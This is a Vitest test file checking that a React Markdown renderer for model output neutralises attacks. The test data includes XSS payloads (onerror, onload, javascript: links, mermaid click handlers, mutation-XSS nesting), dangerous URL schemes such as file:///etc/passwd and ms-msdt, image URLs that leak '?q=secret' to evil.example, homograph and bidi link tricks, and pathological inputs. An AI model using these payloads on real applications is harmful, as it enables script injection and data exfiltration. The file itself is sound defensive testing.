// @vitest-environment happy-dom
import { act } from 'react';
import { afterEach, beforeEach, expect, test, vi } from 'vitest';
import { Markdown } from '../../../renderer/features/markdown/markdown';
import { safeLink } from '../../../renderer/features/markdown/safe-link';
import { mount } from './render';

let page = mount();
const opened: string[] = [];
beforeEach(() => {
  opened.length = 0;
});
afterEach(() => {
  page.close();
  page = mount();
});

const show = (text: string) => {
  page.show(<Markdown text={text} onLink={(url) => void opened.push(url)} />);
  return page.host;
};

/** Elements a model could hurt with; our own icons are the only svg. */
const dangerous =
  'img, script, iframe, object, embed, video, audio, source, link, style, form, base, meta, math, a[href], [srcdoc], [onerror], [onload], [onclick]';

test.each([
  '<img src=x onerror=alert(1)>',
  'text <img src=x onerror=alert(1)> text',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<script>alert(1)</script>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '$$\\href{javascript:alert(1)}{x}$$ $\\includegraphics{https://evil.example}$',
  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]; click A "javascript:alert(1)"\n```',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '- <img src=x onerror=alert(1)>\n> <script>alert(1)</script>',
  '[<img src=x onerror=alert(1)>](https://e.example)',
  '# <script>alert(1)</script>',
  '`<script>`',
])('attack 1: markup in %j is text', (text) => {
  const host = show(text);
  const found = [...host.querySelectorAll(dangerous)].map((element) => element.outerHTML);
  expect(found).toEqual([]);
  expect(host.querySelectorAll('svg:not([aria-hidden=true])')).toHaveLength(0);
});

test('I12, attack 1: what was typed as HTML can be read', () => {
  expect(show('Hi <b onclick=x>there</b>').textContent).toBe('Hi <b onclick=x>there</b>');
  expect(show('<div onload="x">\nblock\n</div>').textContent).toBe(
    '<div onload="x">\nblock\n</div>',
  );
});

const foul = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  'vbscript:x',
  'data:text/html,<script>alert(1)</script>',
  'calculator://',
  'smb://host/share',
  'file:///etc/passwd',
  'ms-msdt:/id',
  'ftp://e.example',
  'app://konsole/',
  'blob:https://e.example/1',
  'view-source:https://e.example',
  'tel:1',
  '//evil.example',
  '/etc/passwd',
  '#top',
  '\\\\host\\share',
  'https://google.example@evil.example/',
  'about:blank',
];

test.each(foul)('attack 2: a link to %j opens nothing', (url) => {
  const host = show(`[inline](<${url}>) and [ref][r], <${url}>\n\n[r]: <${url}>\n`);
  expect(host.querySelectorAll('a, [role=link]')).toHaveLength(0);
  expect(host.textContent).toContain('inline');
});

test('attack 2: the schemes of the web and of mail open, by our own handler', () => {
  const host = show('[a](https://a.example/x) <http://b.example> [c](mailto:d@e.example)');
  for (const link of host.querySelectorAll<HTMLElement>('[role=link]')) link.click();
  expect(opened).toEqual(['https://a.example/x', 'http://b.example/', 'mailto:d@e.example']);
});

test('I12, attack 2: middle click, drag and the context menu have no address to follow', () => {
  const link = show('[a](https://a.example)').querySelector<HTMLElement>('[role=link]');
  expect(link?.hasAttribute('href')).toBe(false);
  link?.dispatchEvent(new MouseEvent('auxclick', { button: 1, bubbles: true, cancelable: true }));
  link?.dispatchEvent(
    new MouseEvent('contextmenu', { button: 2, bubbles: true, cancelable: true }),
  );
  expect(opened).toEqual([]);
  expect(link?.getAttribute('draggable')).not.toBe('true');
});

test('attack 2: a link opens from the keyboard too, and only with Enter', () => {
  const link = show('[a](https://a.example)').querySelector<HTMLElement>('[role=link]');
  link?.dispatchEvent(new KeyboardEvent('keydown', { key: ' ', bubbles: true }));
  expect(opened).toEqual([]);
  link?.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true }));
  expect(opened).toEqual(['https://a.example/']);
});

test.each([
  '![pixel](https://evil.example/?q=secret)',
  '![pixel][r]\n\n[r]: https://evil.example/?q=secret\n',
  '![r]\n\n[r]: https://evil.example/?q=secret "t"\n',
  '[![pixel](https://evil.example/?q=secret)](https://evil.example)',
  '![](https://evil.example/x.png)',
  '![a](data:image/svg+xml;base64,PHN2Zz4=)',
  '<img src="https://evil.example/?q=secret">',
])('attack 3: %j makes no request and says that an image was not loaded', (text) => {
  const fetched = vi.spyOn(globalThis, 'fetch');
  const host = show(text);
  expect(host.querySelectorAll('img, picture, [src], [srcset], [style*=url], [href]')).toHaveLength(
    0,
  );
  if (text.includes('!')) expect(host.textContent).toContain('image not loaded');
  expect(fetched).not.toHaveBeenCalled();
  fetched.mockRestore();
});

test('I12, attack 3: no link is fetched or followed before a person clicks', () => {
  show('[a](https://evil.example/?q=secret) https://evil.example/auto');
  expect(opened).toEqual([]);
  expect(document.head.querySelectorAll('link')).toHaveLength(0);
});

test('a link says where it goes, with the real host', () => {
  const link = show('[safe](https://xn--pple-43d.example/a?b)').querySelector<HTMLElement>('a');
  expect(link?.title).toBe('xn--pple-43d.example\nhttps://xn--pple-43d.example/a?b');
  expect(
    show('[https://аpple.example](https://аpple.example)').querySelector('a')?.title,
  ).toContain('xn--');
});

test('a link whose text names another host shows the host it opens', () => {
  expect(show('[https://bank.example](https://evil.example)').textContent).toBe(
    'https://bank.example (opens evil.example)',
  );
  expect(show('[bank.example](https://www.bank.example/x)').textContent).toBe('bank.example');
  expect(show('[see node.js docs](https://nodejs.org)').querySelector('a')?.textContent).toBe(
    'see node.js docs',
  );
});

test('a link text cannot hide or turn its letters', () => {
  const host = show('[good\u202egro.live\u202c\u200bx](https://e.example)');
  expect(host.querySelector('a')?.textContent).toBe('goodgro.livex');
});

test('a link that could not be opened says why', async () => {
  page.show(
    <Markdown text="[a](https://a.example)" onLink={async () => 'No browser was found.'} />,
  );
  await act(async () => page.host.querySelector<HTMLElement>('a')?.click());
  await vi.waitFor(() =>
    expect(page.host.querySelector('[role=alert]')?.textContent).toContain('No browser'),
  );
});

test('hostile nesting and length neither crash nor hang', () => {
  for (const text of [
    '>'.repeat(20_000),
    '> '.repeat(20_000),
    '- '.repeat(20_000),
    '['.repeat(20_000),
    '*a '.repeat(8_000),
    '**'.repeat(8_000),
    '`'.repeat(20_000),
    '<'.repeat(20_000),
    '!['.repeat(10_000),
    '[a]('.repeat(5_000),
    '|'.repeat(20_000),
    '\\'.repeat(20_000),
    '&'.repeat(20_000),
    `${'a'.repeat(20_000)}@`,
    'http://'.repeat(3_000),
    '_a'.repeat(10_000),
    '~'.repeat(20_000),
    `[x]: ${'('.repeat(20_000)}`,
    '1. '.repeat(8_000),
    '#'.repeat(20_000),
    `|${'a|'.repeat(3_000)}\n|${'-|'.repeat(3_000)}\n`,
  ]) {
    show(text);
    expect(page.host.textContent.length).toBeGreaterThanOrEqual(0);
  }
  // What takes more than linear time here takes minutes.
}, 60_000);

test('an address that is too long is no link', () => {
  expect(safeLink(`https://e.example/${'a'.repeat(5000)}`)).toBeUndefined();
});
